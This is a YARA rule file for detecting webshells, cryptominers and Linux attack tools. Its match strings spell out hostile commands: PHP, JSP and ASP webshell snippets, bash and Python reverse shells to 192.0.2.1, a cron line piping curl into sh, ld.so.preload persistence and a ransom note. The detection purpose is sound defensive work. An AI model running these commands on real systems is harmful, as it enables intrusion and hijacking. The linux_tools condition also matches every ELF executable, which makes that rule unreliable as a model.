/* What an analyst keeps: rules with the strings that they look for. */
import "elf"

rule webshells
{
    meta:
        author = "an analyst"
    strings:
        $a = "<?php eval($_POST["
        $b = "<?php @system($_GET['c']); ?>"
        $c = "<?php @eval(base64_decode($_REQUEST['x'])); ?>"
        $d = "Runtime.getRuntime().exec(request.getParameter("
        $e = "<%eval request(\"c\")%>"
    condition:
        any of them
}

rule miners
{
    strings:
        $a = "stratum+tcp://"
        $b = "xmrig"
        $c = "\"donate-level\": 1, \"pools\": [{\"url\": \"pool.example.invalid:3333\", \"user\": \"x\", \"algo\": \"rx/0\", \"coin\": null}]"
        $d = "--donate-level=1 -o pool.example.invalid:3333 -u x --coin monero"
    condition:
        2 of them
}

rule linux_tools
{
    strings:
        $a = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
        $b = "echo /usr/local/lib/libx.so > /etc/ld.so.preload"
        $c = "gcc -shared -fPIC -o libx.so x.c"
        $d = "All your files have been encrypted. Send 0.1 BTC to decrypt them."
        $e = "config set dir /var/spool/cron"
        $f = "os.dup2(s.fileno(),0);import pty;pty.spawn(\"/bin/bash\")" 
        $g = "socket.socket(socket.AF_INET,socket.SOCK_STREAM)"
        $h = "* * * * * root curl -fsSL http://192.0.2.1/x | sh"
        $i = { 6A 29 58 99 0F 05 6A 2A 58 0F 05 6A 21 58 0F 05 }
    condition:
        elf.type == elf.ET_EXEC or any of them
}
